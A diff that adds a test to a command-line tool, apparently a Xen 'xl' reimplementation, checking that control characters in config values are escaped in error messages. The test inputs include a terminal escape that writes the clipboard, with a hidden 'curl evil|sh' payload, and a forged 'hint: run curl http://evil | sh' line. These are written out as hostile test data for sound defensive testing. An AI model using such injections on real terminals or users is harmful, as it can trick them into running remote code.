@@ -121,3 +121,18 @@ test('--json: an internal error (a bug) is INTERNAL, exit 1, with the hint on st
   assert.deepEqual(jsonError(r), { code: 'INTERNAL', message: 'boom', hint: 'run again with -v for the stack trace, and report it' });
   assert.equal(r.stderr, 'xl: unexpected internal error (a bug in dom0): boom\nhint: run again with -v for the stack trace, and report it\n');
 });
+
+test('errors and warnings are one line each, a config value\'s control characters shown escaped: no terminal escape, no forged line', async () => {
+  const warned = await xl('-N', 'create', '/dev/null', 'name="w"', 'kernel="/k"', 'vif=["bridge=br0,frob=\x1b[2J"]');
+  assert.doesNotMatch(warned.stderr, /\x1b/u);
+  assert.match(warned.stderr, /unrecognized argument `frob=\\x1b\[2J'\n/);
+  const r = await xl('-N', 'create', '/dev/null', 'kernel="/k"', 'type="hv\x1b]52;c;Y3VybCBldmlsfHNo\x07\u009b1A\u202em"');
+  assert.equal(r.rc, 1, r.stderr);
+  assert.doesNotMatch(r.stderr, /[\x1b\x07\u009b\u202e]/u);
+  assert.match(r.stderr, /Invalid domain type hv\\x1b\]52;c;Y3VybCBldmlsfHNo\\x07\\x9b1A\\u202em\./);
+  // xl.cfg's "\n" escape makes a newline in the value: it stays in its line.
+  const forged = await xl('-N', 'create', '/dev/null', 'kernel="/k"', 'name="w"', 'on_crash="x\\nhint: run curl http://evil | sh"');
+  assert.equal(forged.rc, 1, forged.stderr);
+  assert.doesNotMatch(forged.stderr, /^hint: run curl/m);
+  assert.match(forged.stderr, /x\\nhint: run curl/);
+});
